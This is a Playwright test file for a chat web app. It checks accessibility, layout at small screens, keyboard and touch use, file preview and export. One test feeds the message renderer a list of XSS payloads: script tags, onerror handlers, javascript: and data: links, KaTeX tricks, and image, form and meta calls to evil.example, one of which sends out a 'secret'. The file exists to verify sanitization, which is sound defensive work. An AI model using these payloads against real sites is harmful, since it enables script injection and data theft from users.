import { readFileSync } from 'node:fs';
import AxeBuilder from '@axe-core/playwright';
import { sections } from '../../src/settings/sections.ts';
import { expect, test } from './fixture.ts';
import { idOf, messageOf, someConversations, someSchedules } from './scenes.ts';

const routes = [
  '/',
  `/c/${idOf(1)}`,
  '/files',
  '/schedules',
  '/usage',
  '/settings',
  ...sections.map(({ id }) => `/settings/${id}`),
  '/nowhere',
];

for (const [locale, colorScheme] of [
  ['en-US', 'light'],
  ['en-US', 'dark'],
  ['ko-KR', 'light'],
  ['ko-KR', 'dark'],
] as const) {
  test.describe(`${locale}, ${colorScheme}`, () => {
    test.use({ locale, colorScheme });
    test('every route passes axe', async ({ openApp, page }) => {
      const language = locale === 'ko-KR' ? 'ko' : 'en';
      await openApp('/', { ...someConversations(language), schedules: someSchedules(language) });
      for (const route of routes) {
        await page.goto(`/#${route}`);
        await page.getByRole('heading', { level: 1 }).waitFor();
        if (route.startsWith('/c/')) await page.getByRole('article').last().waitFor();
        const { violations } = await new AxeBuilder({ page })
          .withTags(['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice'])
          .analyze();
        const found = violations.flatMap(({ id, nodes }) => nodes.map(({ html }) => `${id}: ${html}`));
        expect.soft(found, route).toEqual([]);
      }
    });
  });
}

for (const [name, viewport] of [
  ['360 pixels', { width: 360, height: 740 }],
  // What a browser at 200 % shows of 1280 by 800.
  ['a zoom of 200 %', { width: 640, height: 400 }],
] as const) {
  test.describe(name, () => {
    test.use({ viewport });
    test(`nothing is cut off at ${name}`, async ({ openApp, page }) => {
      await openApp('/', { ...someConversations('en'), schedules: someSchedules('en') });
      for (const route of routes) {
        await page.goto(`/#${route}`);
        await page.getByRole('heading', { level: 1 }).waitFor();
        const overflow = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
        expect.soft(overflow, route).toBeLessThanOrEqual(0);
      }
    });
  });
}

test('everything that is done with a mouse is done with keys', async ({ openApp, page }) => {
  await openApp(`/c/${idOf(1)}`, someConversations('en'));
  await page.getByRole('article').last().waitFor();
  await page.keyboard.press('Control+k');
  await expect(page.getByRole('combobox')).toBeFocused();
  await page.keyboard.type('kangneung-not-there');
  await expect(page.getByText('Nothing here has this name.')).toBeVisible();
  await page.keyboard.press('Control+a');
  await page.keyboard.type('usage');
  await page.keyboard.press('Enter');
  await expect(page.getByRole('heading', { level: 1, name: 'Usage' })).toBeFocused();
  await page.keyboard.press('Control+Shift+O');
  await expect(page.getByRole('textbox', { name: 'Message' })).toBeFocused();
  await page.keyboard.type('By keys alone');
  await page.keyboard.press('Enter');
  await expect(page.getByRole('log').getByText('By keys alone')).toBeVisible();
});

test.describe('with a finger', () => {
  test.use({ viewport: { width: 360, height: 740 }, hasTouch: true });
  test('a command behind a slash is pressed, the keyboard stays, and axe finds nothing', async ({
    openApp,
    page,
  }) => {
    await openApp(`/c/${idOf(1)}`, someConversations('en'));
    const box = page.getByRole('textbox', { name: 'Message' });
    await box.fill('/');
    const options = page.getByRole('listbox', { name: 'Commands' }).getByRole('option');
    await expect(options).toHaveCount(13);
    for (const option of [options.first(), options.last()]) {
      await option.scrollIntoViewIfNeeded();
      await expect(option).toBeInViewport();
    }
    const { violations } = await new AxeBuilder({ page }).analyze();
    expect(violations.flatMap(({ id, nodes }) => nodes.map(({ html }) => `${id}: ${html}`))).toEqual([]);
    await page.getByRole('option', { name: '/status' }).tap();
    await expect(page.getByText(/^The agent: Awake/)).toBeVisible();
    await expect(box).toBeFocused();
    await expect(box).toHaveValue('');
  });
});

test('no answer runs, loads or sends anything', async ({ openApp, page, complaints }) => {
  const payloads = [
    '<script>window.hacked=1</script>',
    '<img src=x onerror="window.hacked=1">',
    '<svg/onload=window.hacked=1>',
    '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
    '<a href="javascript:window.hacked=1">x</a>',
    '[x](javascript:window.hacked=1)',
    '[x](JaVaScRiPt:window.hacked=1)',
    '[x](&#106;avascript:window.hacked=1)',
    '[x](data:text/html,<script>window.hacked=1</script>)',
    '[x](vbscript:window.hacked=1)',
    '[x](file:///etc/passwd)',
    '[x](//evil.example)',
    '<javascript:window.hacked=1>',
    '![x](https://evil.example/?q=secret)',
    '![x](javascript:window.hacked=1)',
    '[ref]: javascript:window.hacked=1\n\n[ref]',
    '```html"onmouseover="window.hacked=1\n<b>x</b>\n```',
    '| <img src=x onerror=window.hacked=1> |\n| --- |\n| [x](javascript:window.hacked=1) |',
    '$\\href{javascript:window.hacked=1}{x}$',
    '$$\\htmlData{onclick=window.hacked=1}{x}$$',
    '$$\\includegraphics{https://evil.example/x.png}$$',
    'a^[<img src=x onerror=window.hacked=1>][^1]\n\n[^1]: <script>window.hacked=1</script>',
    '<style>body{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>',
    '<form action=https://evil.example><input name=q></form>',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<base href=https://evil.example>',
  ];
  const asked: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith('http://127.0.0.1') && !/^(data|blob):/.test(request.url())) {
      asked.push(request.url());
    }
  });
  const rows = someConversations('en');
  await openApp(`/c/${idOf(1)}`, {
    ...rows,
    messages: payloads.map((payload, index) => messageOf(index, `payload ${index}`, payload)),
  });
  await page.getByText(`payload ${payloads.length - 1}`, { exact: true }).waitFor();
  await page.locator('.katex').first().waitFor({ state: 'attached' });
  const links = await page.getByRole('log').getByRole('link').all();
  for (const link of links) {
    expect(await link.getAttribute('href')).toMatch(/^(https?:\/\/|mailto:)/);
    expect(await link.getAttribute('rel')).toContain('noopener');
  }
  const strange = await page
    .getByRole('log')
    .locator('script, iframe, object, embed, form, style, link, meta, base, [onerror], [onload], [onclick]')
    .count();
  expect(strange).toBe(0);
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
  expect(asked).toEqual([]);
  expect(complaints).toEqual([]);
});

test('a file of text is shown as text, whatever stands in it, and a part of a large one', async ({
  openApp,
  page,
}) => {
  const evil = '<script>window.hacked=1</script><img src=x onerror="window.hacked=1">';
  const large = `${evil}\n${'line\n'.repeat(100_000)}`;
  // Every file of this backend is the icon.
  await page.route('**/icon-192.png', (route) => route.fulfill({ contentType: 'text/html', body: large }));
  const rows = someConversations('en');
  const file = { id: idOf(900), name: 'page.html', type: 'text/html', size: large.length };
  await openApp(`/c/${idOf(1)}`, {
    ...rows,
    messages: [messageOf(1, 'Look', 'Yes', { attachments: [file] })],
  });
  await page.getByRole('button', { name: /page\.html/ }).click();
  const dialog = page.getByRole('dialog', { name: 'page.html' });
  await expect(dialog.locator('pre')).toContainText(evil);
  await expect(dialog).toContainText('Only the first 262 kB are shown');
  expect(await dialog.locator('script, img, iframe').count()).toBe(0);
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
  await page.keyboard.press('Escape');
  await expect(dialog).toBeHidden();
});

test('conversations are exported as files, all of them and one from its menu', async ({ openApp, page }) => {
  await openApp('/settings/data', someConversations('en'));
  const saved = async (press: () => Promise<void>) => {
    const [download] = await Promise.all([page.waitForEvent('download'), press()]);
    return { name: download.suggestedFilename(), text: readFileSync(await download.path(), 'utf8') };
  };
  const all = await saved(() => page.getByRole('button', { name: 'Export as JSON' }).click());
  expect(all.name).toMatch(/^openclaw-conversations-.*\.json$/);
  expect(JSON.parse(all.text).conversations.length).toBe(someConversations('en').conversations?.length);
  const first = page.locator('.conversation').first();
  await first.hover();
  await first.getByRole('button').click();
  const one = await saved(() => page.getByRole('menuitem', { name: 'Export as Markdown' }).click());
  expect(one.text).toContain('### You wrote');
});
